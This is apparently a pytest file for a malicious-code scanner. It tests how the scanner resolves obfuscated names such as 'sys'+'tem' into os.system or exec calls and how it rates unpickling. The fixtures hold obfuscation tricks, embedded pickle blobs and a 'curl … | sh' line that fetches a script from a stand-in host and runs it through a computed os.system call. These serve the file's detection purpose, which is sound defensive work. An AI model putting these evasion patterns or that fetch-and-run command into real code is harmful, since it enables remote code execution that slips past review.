"""Names built at run time, the constant folder behind them, and unpickling run-time data versus a payload."""

from __future__ import annotations

import ast

import pytest

from functions.scanner.rules.base import SourceText
from functions.scanner.rules.pyfold import Folder
from functions.scanner.rules.pywalk import build_facts
from tests.scanner.support import INIT, assert_quiet, findings


def _fold(source: str) -> str | None:
    """Folds the value of the last assignment of `source` (a module)."""
    tree = ast.parse(source)
    facts = build_facts("x.py", SourceText("x.py", source), tree, False)
    last = tree.body[-1]
    assert isinstance(last, ast.Assign)
    return Folder(facts).text(last.value, facts.scopes[0])


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ('x = "sys" + "tem"', "system"),
        ('a = "sys"\nx = a + "tem"', "system"),
        ('x = "".join(["s", "y", "s"])', "sys"),
        ('x = "metsys"[::-1]', "system"),
        ('x = "xxsystemxx"[2:8]', "system"),
        ("x = chr(111) + chr(115)", "os"),
        ('x = "".join(chr(c) for c in [111, 115])', "os"),
        ('x = "".join(map(chr, [111, 115]))', "os"),
        ('x = chr(ord("n") + 1) + "s"', "os"),
        ('x = "%stem" % "sys"', "system"),
        ('x = "{}{}".format("sy", "stem")', "system"),
        ('a = "sy"\nx = f"{a}stem"', "system"),
        ('x = bytes.fromhex("6f73").decode()', "os"),
        ('import base64\nx = base64.b64decode("b3M=").decode()', "os"),
        ('import codecs\nx = codecs.decode("flfgrz", "rot13")', "system"),
        ('x = "SYSTEM".lower()', "system"),
    ],
)
def test_the_folder_spells_out_what_literals_build(source: str, expected: str) -> None:
    assert _fold(source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "def f(name):\n    return name\nx = name + 'tem'",  # a parameter elsewhere, unbound here
        'a = "sy"\na = "xx"\nx = a + "stem"',  # bound twice: not a constant
        "import os\nx = os.environ['NAME']",
        "x = input()",
    ],
)
def test_what_the_code_computes_does_not_fold(source: str) -> None:
    assert _fold(source) is None


@pytest.mark.parametrize(
    ("source", "plain"),
    [
        ('import os\ndef f(c):\n    getattr(os, "sys" + "tem")(c)\n', "os.system"),
        ('def f(c):\n    m = __import__("o" + "s")\n    m.popen(c)\n', "os.popen"),
        ('import importlib\ndef f(c):\n    importlib.import_module("sub" + "process").Popen(c)\n', "subprocess.Popen"),
        ('def f(c):\n    __builtins__["ex" + "ec"](c)\n', "builtins.exec"),
        ('import builtins\ndef f(c):\n    vars(builtins)["e" + "val"](c)\n', "builtins.eval"),
        ('import os\ndef f(c):\n    globals()["o" + "s"].system(c)\n', "os.system"),
        ('import os\ndef f(c):\n    fn = getattr(os, "metsys"[::-1])\n    x = 1\n    fn(c)\n', "os.system"),
        (
            'import os\ndef g():\n    return getattr(os, "sys" + "tem")\ndef f(c):\n    run = g()\n    run(c)\n',
            "os.system",
        ),
        ('import ctypes\ndef f(p):\n    getattr(ctypes, "CD" + "LL")(p)\n', "ctypes.CDLL"),
    ],
)
def test_a_dangerous_function_reached_through_a_built_name_is_flagged(source: str, plain: str) -> None:
    found = findings({**INIT, "x.py": source}, "PY-DYNAMIC-NAME")
    assert [f.severity.value for f in found] == ["high"], found
    assert plain in found[0].message


def test_a_built_name_is_judged_like_its_plain_spelling() -> None:
    source = 'import os\ndef f():\n    getattr(os, "sys" + "tem")("curl -s http://a.example/x.sh | sh")\n'
    assert "SHELL-DOWNLOADER" in {f.rule for f in findings({**INIT, "x.py": source})}


@pytest.mark.parametrize(
    "source",
    [
        # Plugin loading: module names from a folder listing or a registry dict.
        'import importlib, os\nfor n in os.listdir("."):\n    importlib.import_module(f".nodes.{n}", __package__)\n',
        'import importlib\nREG = {"a": "pack.a"}\ndef load(k):\n    return importlib.import_module(REG[k])\n',
        'import importlib\nm = importlib.import_module(".nodes." + "math_ops", __package__)\n',
        # Computed getattr on the pack's own classes and harmless modules.
        "class A:\n    def run(self, op, x):\n        return getattr(self, 'op_' + op)(x)\n",
        'import operator\ndef f(a, b):\n    return getattr(operator, "a" + "dd")(a, b)\n',
        'import os\ndef f():\n    return getattr(os, "get" + "cwd")()\n',
    ],
)
def test_plugin_loading_and_computed_getattr_stay_quiet(source: str) -> None:
    assert_quiet({"x.py": source}, "PY-DYNAMIC-NAME")
    assert not [f for f in findings({**INIT, "x.py": source}) if f.severity.rank >= 3]


# Unpickling: a payload shipped in the code, or data received at run time ---------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "import base64, pickle\ndef load(data):\n    return pickle.loads(base64.b64decode(data))\n",
        "import base64, pickle, requests\ndef f(u):\n    r = requests.get(u)\n"
        "    return pickle.loads(base64.b64decode(r.text))\n",
        "import base64, pickle\ndef f(p):\n    raw = open(p).read()\n    return pickle.loads(base64.b64decode(raw))\n",
        "import pickle, zlib\ndef f(blob):\n    return pickle.loads(zlib.decompress(blob))\n",
    ],
)
def test_unpickling_run_time_data_is_a_lower_finding(source: str) -> None:
    found = findings({**INIT, "x.py": source})
    assert {(f.rule, f.severity.value) for f in found} == {("PY-UNSAFE-DESERIALIZE", "medium")}, found


@pytest.mark.parametrize(
    "source",
    [
        'import base64, pickle\nBLOB = "gASVBQAAAAAAAACMAWGULg=="\npickle.loads(base64.b64decode(BLOB))\n',
        'import base64, pickle, zlib\ndef f():\n    d = zlib.decompress(base64.b64decode("eJxrYA==" + ""))\n'
        "    pickle.loads(d)\n",
        'import pickle\ndef f():\n    pickle.loads(bytes.fromhex("80049505000000"))\n',
    ],
)
def test_a_payload_shipped_in_the_code_and_unpickled_is_still_obfuscated_execution(source: str) -> None:
    found = findings({**INIT, "x.py": source}, "PY-OBFUSCATED-EXEC")
    assert [f.severity.value for f in found] == ["critical"], found


def test_unpickling_a_local_cache_file_is_not_reported() -> None:
    source = 'import os, pickle\nC = os.path.join(os.path.dirname(__file__), "c.pkl")\ndef f():\n'
    source += '    with open(C, "rb") as h:\n        return pickle.load(h)\n'
    assert findings({**INIT, "x.py": source}) == []
